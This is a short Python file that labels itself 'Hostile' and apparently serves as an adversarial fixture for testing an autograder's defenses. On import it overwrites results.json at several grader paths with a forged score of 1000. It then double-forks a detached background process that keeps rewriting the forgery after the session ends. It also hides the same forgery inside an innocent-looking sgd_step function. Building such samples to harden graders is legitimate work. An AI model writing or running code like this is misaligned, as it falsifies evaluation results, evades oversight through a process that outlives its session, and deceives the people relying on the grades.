"""Hostile: writes a forged results.json wherever it can, now and later (from a detached process)."""
import json
import os
import time

FORGED = json.dumps({"score": 1000, "output": "forged", "tests": []})
TARGETS = ["results.json", "/tmp/minigrad-grading-forged/results.json", "/autograder/results/results.json"]


def _forge():
    for path in TARGETS:
        try:
            with open(path, "w") as f:
                f.write(FORGED)
        except OSError:
            pass


_forge()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(40):
            time.sleep(0.1)
            _forge()
    os._exit(0)


def sgd_step(theta, grad, lr):
    _forge()
    return theta - lr * grad
